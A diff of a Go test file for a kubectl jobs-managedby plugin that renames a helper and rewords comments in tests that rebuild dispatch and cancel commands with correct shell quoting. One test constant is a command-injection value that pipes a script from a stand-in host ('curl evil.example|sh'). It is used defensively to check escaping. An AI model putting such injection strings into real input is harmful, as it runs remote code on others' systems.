@@ -14,10 +14,10 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/cmd/util"
 )
 
-// hostile is what somebody may have to say who thinks of shells.
+// hostile is a value with characters that shells interpret.
 const hostile = "-x; curl evil.example|sh #`$(x)`'\"\n,y=z"
 
-// sample is another value of a flag than its default.
+// sample returns values of a flag other than its default.
 func sample(flag *pflag.Flag) []string {
 	switch flag.Name {
 	case "dry-run":
@@ -42,8 +42,8 @@ func sample(flag *pflag.Flag) []string {
 	return []string{hostile}
 }
 
-// given is a command of a new tree, with flags as a user would have given them.
-func given(t *testing.T, name string, args ...string) *cobra.Command {
+// parsedCommand returns a command of a new tree, with flags as a user would give them.
+func parsedCommand(t *testing.T, name string, args ...string) *cobra.Command {
 	t.Helper()
 	root, _ := newRootCommand(util.Environment{})
 	called, rest, err := root.Find(append([]string{name}, args...))
@@ -53,19 +53,19 @@ func given(t *testing.T, name string, args ...string) *cobra.Command {
 	return called
 }
 
-// TestGoOnWithAllFlags: whatever flag dispatch has, the command that goes on has it too,
-// with the value that it had.
+// TestGoOnWithAllFlags: the command that resumes a dispatch has every flag of dispatch, with the
+// same value.
 func TestGoOnWithAllFlags(t *testing.T) {
 	var names []string
-	given(t, "dispatch").Flags().VisitAll(func(flag *pflag.Flag) { names = append(names, flag.Name) })
+	parsedCommand(t, "dispatch").Flags().VisitAll(func(flag *pflag.Flag) { names = append(names, flag.Name) })
 	assert.Assert(t, len(names) > 40, "%q", names)
 	for _, name := range names {
 		t.Run(name, func(t *testing.T) {
 			if name == "help" {
 				return
 			}
-			before := given(t, "dispatch")
-			// That of logs is the process's own.
+			before := parsedCommand(t, "dispatch")
+			// The logging flag belongs to the whole process.
 			t.Cleanup(func() { assert.NilError(t, before.Flag("v").Value.Set("0")) })
 			for _, value := range sample(before.Flag(name)) {
 				assert.NilError(t, before.Flags().Set(name, value), "%q", value)
@@ -76,7 +76,7 @@ func TestGoOnWithAllFlags(t *testing.T) {
 			assert.DeepEqual(t, words, again.Words())
 			assert.DeepEqual(t, words[:3], []string{"kubectl", "jobs-managedby", "dispatch"})
 
-			after := given(t, "dispatch", words[3:]...)
+			after := parsedCommand(t, "dispatch", words[3:]...)
 			assert.DeepEqual(t, after.Flags().Args(), []string{"train", "jobset/x"})
 			assert.Equal(t, after.Flag("namespace").Value.String()+" "+after.Flag("context").Value.String()+" "+after.Flag("to").Value.String(), "ml mana ger [-w]")
 			switch flag := after.Flag(name); {
@@ -91,21 +91,21 @@ func TestGoOnWithAllFlags(t *testing.T) {
 			}
 
 			end := shelltest.Words(t, commands.EndIt("ml", []string{"train"}).Shell())
-			given(t, "cancel", end[3:]...)
+			parsedCommand(t, "cancel", end[3:]...)
 		})
 	}
 }
 
-// TestGoOn: what is not given is not told.
+// TestGoOn: flags that were not given are not repeated.
 func TestGoOn(t *testing.T) {
-	was := given(t, "dispatch", "-f", "train.yaml", "--to", "worker-1", "--mirror-ttl", "1h", "--strip-labels", "a,b", "--set-labels", "q=x,p=y",
+	was := parsedCommand(t, "dispatch", "-f", "train.yaml", "--to", "worker-1", "--mirror-ttl", "1h", "--strip-labels", "a,b", "--set-labels", "q=x,p=y",
 		"--namespace-to", "batch", "--with-secret=s", "--with-secret=t", "--as-multikueue", "--as", "jo", "--detach-after-start=false", "--with-dependencies")
 	commands := dispatch.NewAgain(util.Environment{}, was, "management", []string{"worker-1"})
 	assert.Equal(t, commands.GoOn("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to worker-1 "+
 		"--as jo --as-multikueue --mirror-ttl 1h0m0s --namespace-to batch --set-labels p=y,q=x --strip-labels a,b --with-dependencies --with-secret s --with-secret t")
-	several := dispatch.NewAgain(util.Environment{}, given(t, "dispatch", "--to", "w*", "--spread"), "management", []string{"worker-2", "worker-1"})
+	several := dispatch.NewAgain(util.Environment{}, parsedCommand(t, "dispatch", "--to", "w*", "--spread"), "management", []string{"worker-2", "worker-1"})
 	assert.Equal(t, several.GoOn("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to worker-2,worker-1 --spread")
-	odd := dispatch.NewAgain(util.Environment{}, given(t, "dispatch"), "management", []string{"a,b", "c"})
+	odd := dispatch.NewAgain(util.Environment{}, parsedCommand(t, "dispatch"), "management", []string{"a,b", "c"})
 	assert.Equal(t, odd.GoOn("ml", []string{"train"}).Shell(), "kubectl jobs-managedby dispatch train -n ml --context management --to a,b --to c")
 	assert.Equal(t, commands.EndIt("ml", []string{"train"}).Shell(), "kubectl jobs-managedby cancel train -n ml --context management --as jo --as-multikueue")
 }
